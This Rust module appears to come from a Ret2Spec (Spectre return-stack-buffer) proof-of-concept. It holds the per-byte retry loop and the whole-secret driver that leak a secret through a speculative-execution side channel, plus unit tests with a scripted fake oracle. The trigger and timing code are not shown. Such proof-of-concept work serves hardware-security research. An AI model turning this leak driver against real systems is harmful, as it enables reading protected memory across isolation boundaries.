//! Per-byte retry loop and the whole-secret driver.

use std::io::Write;

use crate::engine::Engine;
use crate::error::{Result, Ret2SpecError};
use crate::sidechannel::{LeakResult, Oracle};

/// Recover the secret byte at `offset`.
///
/// Each attempt clears the oracle, runs one misprediction trigger and asks
/// the oracle for a verdict. Gives up with [`Ret2SpecError::NonConvergence`]
/// after `attempt_cap + 1` attempts.
pub fn leak_byte<O: Oracle>(
    engine: &Engine<'_>,
    oracle: &mut O,
    offset: usize,
    attempt_cap: usize,
) -> Result<u8>
{
    let len = engine.secret().len();
    if offset >= len {
        return Err(Ret2SpecError::OffsetOutOfRange { offset, len });
    }

    engine.arm(oracle.handle(), offset);
    let mut last = LeakResult { confident: false, byte: 0 };
    for run in 0..=attempt_cap {
        oracle.reset();
        engine.trigger();
        last = oracle.sample();
        if last.confident {
            engine.disarm();
            tracing::debug!(offset, attempts = run + 1, byte = last.byte, "converged");
            return Ok(last.byte);
        }
    }
    engine.disarm();

    Err(Ret2SpecError::NonConvergence {
        offset,
        attempts: attempt_cap + 1,
        best_guess: last.byte,
    })
}

/// Leak every byte of the engine's secret in order, echoing each one to `out`
/// as soon as it is recovered.
///
/// `new_oracle` is called once per byte, so scores never carry over between
/// offsets.
pub fn leak_all<O, F, W>(
    engine: &Engine<'_>,
    mut new_oracle: F,
    attempt_cap: usize,
    out: &mut W,
) -> Result<Vec<u8>>
where
    O: Oracle,
    F: FnMut() -> O,
    W: Write,
{
    write!(out, "Leaking the string: ")?;
    out.flush()?;

    let mut leaked = Vec::with_capacity(engine.secret().len());
    for offset in 0..engine.secret().len() {
        let mut oracle = new_oracle();
        let byte = leak_byte(engine, &mut oracle, offset, attempt_cap)?;
        write!(out, "{}", byte as char)?;
        out.flush()?;
        leaked.push(byte);
    }

    write!(out, "\nDone!\n")?;
    out.flush()?;
    Ok(leaked)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::Poisoning;
    use crate::sidechannel::{OracleHandle, ORACLE_STRIDE};

    struct Scripted {
        surface: Vec<u8>,
        verdicts: Vec<LeakResult>,
        resets: usize,
        samples: usize,
    }

    impl Scripted {
        fn new(verdicts: Vec<LeakResult>) -> Self
        {
            Scripted { surface: vec![0; 256 * ORACLE_STRIDE], verdicts, resets: 0, samples: 0 }
        }
    }

    impl Oracle for Scripted {
        fn reset(&mut self)
        {
            self.resets += 1;
        }

        fn sample(&mut self) -> LeakResult
        {
            let verdict = self.verdicts[self.samples.min(self.verdicts.len() - 1)];
            self.samples += 1;
            verdict
        }

        fn handle(&self) -> OracleHandle
        {
            unsafe { OracleHandle::new(self.surface.as_ptr(), ORACLE_STRIDE) }
        }
    }

    fn unsure(byte: u8) -> LeakResult
    {
        LeakResult { confident: false, byte }
    }

    fn sure(byte: u8) -> LeakResult
    {
        LeakResult { confident: true, byte }
    }

    #[test]
    fn stops_at_first_confident_sample()
    {
        let engine = Engine::new(16, Poisoning::SameStack, b"q");
        let mut oracle = Scripted::new(vec![unsure(b'?'), unsure(b'q'), sure(b'q')]);
        assert_eq!(leak_byte(&engine, &mut oracle, 0, 10).unwrap(), b'q');
        assert_eq!(oracle.samples, 3);
        assert_eq!(oracle.resets, 3);
        assert!(!engine.is_armed());
    }

    #[test]
    fn gives_up_after_cap_plus_one_attempts()
    {
        let engine = Engine::new(16, Poisoning::SameStack, b"q");
        let mut oracle = Scripted::new(vec![unsure(b'w')]);
        let err = leak_byte(&engine, &mut oracle, 0, 7).unwrap_err();
        assert!(matches!(
            err,
            Ret2SpecError::NonConvergence { offset: 0, attempts: 8, best_guess: b'w' }
        ));
        assert_eq!(oracle.samples, 8);
    }

    #[test]
    fn rejects_offsets_past_the_secret()
    {
        let engine = Engine::new(16, Poisoning::SameStack, b"ab");
        let mut oracle = Scripted::new(vec![sure(b'a')]);
        let err = leak_byte(&engine, &mut oracle, 2, 10).unwrap_err();
        assert!(matches!(err, Ret2SpecError::OffsetOutOfRange { offset: 2, len: 2 }));
        assert_eq!(oracle.samples, 0);
    }

    #[test]
    fn leak_all_echoes_bytes_and_finishes()
    {
        let engine = Engine::new(16, Poisoning::SameStack, b"hi");
        let mut script = vec![vec![sure(b'h')], vec![unsure(b'x'), sure(b'i')]].into_iter();
        let mut out = Vec::new();
        let leaked = leak_all(&engine, || Scripted::new(script.next().unwrap()), 10, &mut out).unwrap();
        assert_eq!(leaked, b"hi");
        assert_eq!(String::from_utf8(out).unwrap(), "Leaking the string: hi\nDone!\n");
    }
}
